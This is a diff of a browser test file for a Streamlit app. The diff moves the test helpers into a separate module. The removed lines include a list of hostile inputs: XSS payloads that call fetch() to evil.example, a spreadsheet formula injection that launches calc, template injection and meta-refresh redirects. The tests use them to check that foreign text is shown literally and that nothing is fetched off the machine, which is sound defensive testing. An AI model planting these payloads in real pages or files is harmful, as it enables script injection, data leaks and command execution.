@@ -1,99 +1,21 @@
 """A real browser: foreign text stays text, nothing leaves this machine, and every key does what is printed on it."""
 
 import csv
-import os
-import shutil
-import socket
-import subprocess
-import sys
-import time
-import urllib.request
 from collections.abc import Iterator
-from dataclasses import dataclass, field
 from datetime import UTC, datetime
 from pathlib import Path
-from urllib.parse import urlsplit
 
 import pytest
 from app_project import CONFLICT, add_import, add_run, add_sessions, build_project, hostile_evaluation, write_hostile
-from playwright.sync_api import Page, expect, sync_playwright
+from app_site import HOSTILE, NEEDS_BROWSER, Site, opened
+from playwright.sync_api import expect
 
 from evalsuite.sessions.store import SessionStore
-from prep.project import Project, read_records
-from prep.records import Decision, Pair
+from prep.records import Pair
 
-CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
-APP = Path(__file__).resolve().parent.parent / "streamlit_app.py"
 FAR = "2099-01-01T00:00:00+00:00"
-OFFLINE = (
-    "--no-sandbox", "--disable-background-networking", "--disable-component-update", "--disable-sync",
-    "--no-first-run", "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
-)  # fmt: skip
-HOSTILE = (
-    "![beacon](http://evil.example/pixel.png?leak=1)",
-    '<img src="http://evil.example/i.png" onerror="fetch(`http://evil.example/x`)">',
-    "<script>fetch('http://evil.example/s')</script>",
-    "<style>body{display:none;background:url(http://evil.example/c.png)}</style>",
-    '<link rel="stylesheet" href="http://evil.example/a.css">',
-    '<iframe src="http://evil.example/"></iframe>',
-    '<svg onload="fetch(`http://evil.example/v`)"><image href="http://evil.example/v.png"/></svg>',
-    '<a href="javascript:alert(1)">click</a>',
-    "[link](http://evil.example/md) and http://evil.example/bare and www.evil.example",
-    "[ref]: http://evil.example/ref\n![r][ref]",
-    ":red[coloured] :blue-background[marked] :red-badge[badge]",
-    ":material/home: and :streamlit: and :smile:",
-    "a -> b <- c -- d >= e != f",
-    "$x^2$ and $$\\int_0^1 x$$",
-    "```mermaid\ngraph TD; A-->B\n```",
-    "# heading\n- item\n1. one\n> quote\n---\n| a | b |\n|---|---|",
-    "**bold** _it_ ~~gone~~ `code` \\* &amp; &lt;b&gt; &#x3c;",
-    "=cmd|' /C calc'!A0 +1+1 @SUM(1) -2",
-    "\u202edesrever\u202c \u2066isolated\u2069 \u200bzero",
-    "<!-- comment --> <![CDATA[x]]> <?php echo 1 ?>",
-    "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
-    "<video autoplay src=http://evil.example/v.mp4><audio src=http://evil.example/a.mp3>",
-    "<meta http-equiv=refresh content='0;url=http://evil.example/'><base href=http://evil.example/>",
-    "</div></div></body><h1>out</h1>",
-    "  two  spaces\n\n\nthree lines\ttab  ",
-)
 
-pytestmark = [
-    pytest.mark.browser,
-    pytest.mark.skipif(not Path(CHROMIUM).is_file(), reason=f"needs Chromium, and {CHROMIUM} is not there"),
-]
-
-
-@dataclass
-class Site:
-    """The running app, a page in the browser, and every address that the browser asked for."""
-
-    address: str
-    project: Project
-    page: Page
-    asked: list[str] = field(default_factory=list)
-
-    def visit(self, path: str, waits_for: str) -> str:
-        """Open a page; all of its text once `waits_for` is on it."""
-        self.page.goto(self.address + path)
-        expect(self.page.get_by_text(waits_for).first).to_be_visible(timeout=60_000)
-        return self.text()
-
-    def text(self) -> str:
-        self.page.wait_for_timeout(200)  # what was asked for is there; now its neighbours
-        return str(self.page.evaluate("document.body.textContent"))
-
-    def press(self, key: str, then: str) -> None:
-        """One key, after the quiet time that tells a press from a held key, until `then` is on the page."""
-        expect(self.page.get_by_test_id("stApp")).to_have_attribute(
-            "data-test-script-state", "notRunning", timeout=15_000
-        )
-        self.page.wait_for_timeout(400)
-        self.page.keyboard.press(key)
-        expect(self.page.get_by_text(then).first).to_be_visible(timeout=15_000)
-
-    @property
-    def decisions(self) -> list[Decision]:
-        return read_records(self.project.decisions, Decision) if self.project.decisions.is_file() else []
+pytestmark = NEEDS_BROWSER
 
 
 @pytest.fixture(scope="module")
@@ -109,40 +31,8 @@ def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
     for text in HOSTILE:
         moment = datetime.now(UTC).isoformat(timespec="seconds")
         store.answer(store.ask("S2", text, moment), answer=text, error="", at=moment)
-    port = free_port()
-    environment = {**os.environ, "PAIRWRIGHT_PROJECT": str(project.root)}
-    command = [sys.executable, "-m", "streamlit", "run", str(APP), "--server.port", str(port)]
-    server = subprocess.Popen(command, env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-    try:
-        wait_until_up(port)
-        with sync_playwright() as playwright:
-            browser = playwright.chromium.launch(executable_path=CHROMIUM, args=list(OFFLINE))
-            page = browser.new_page(viewport={"width": 1440, "height": 900})
-            site = Site(f"http://127.0.0.1:{port}", project, page)
-            page.on("request", lambda request: site.asked.append(request.url))
-            page.on("websocket", lambda websocket: site.asked.append(websocket.url))
-            yield site
-            browser.close()
-    finally:
-        server.terminate()
-        server.wait(timeout=20)
-
-
-def free_port() -> int:
-    with socket.socket() as held:
-        held.bind(("127.0.0.1", 0))
-        return int(held.getsockname()[1])
-
-
-def wait_until_up(port: int) -> None:
-    for _ in range(300):
-        try:
-            with urllib.request.urlopen(f"http://127.0.0.1:{port}/_stcore/health", timeout=2) as answer:
-                if answer.status == 200:
-                    return
-        except OSError:
-            time.sleep(0.2)
-    raise TimeoutError("the app did not start within a minute")
+    with opened(project) as site:
+        yield site
 
 
 def test_hostile_text_is_shown_exactly_on_every_page_and_nothing_leaves_this_machine(site: Site) -> None:
@@ -175,11 +65,7 @@ def test_hostile_text_is_shown_exactly_on_every_page_and_nothing_leaves_this_mac
     seen = site.visit("/?token=green-heron", "left")
     assert [text for text in HOSTILE if text.strip() not in seen] == []
     assert len(site.asked) > 50
-    assert {url for url in site.asked if not is_local(url)} == set()
-
-
-def is_local(url: str) -> bool:
-    return urlsplit(url).hostname == "127.0.0.1" or url.startswith(("data:", "blob:http://127.0.0.1"))
+    assert site.asked_elsewhere == set()
 
 
 def test_each_key_of_the_pairs_page_does_what_is_printed_on_it(site: Site) -> None:
@@ -285,4 +171,4 @@ def test_a_table_is_dropped_its_columns_and_agents_chosen_and_nothing_is_fetched
     expect(site.page.get_by_text("From all").first).to_be_visible(timeout=15_000)
     assert HOSTILE[0] in site.text()
     expect(site.page.get_by_role("button", name="Read everything")).to_be_enabled()
-    assert {url for url in site.asked if not is_local(url)} == set()
+    assert site.asked_elsewhere == set()
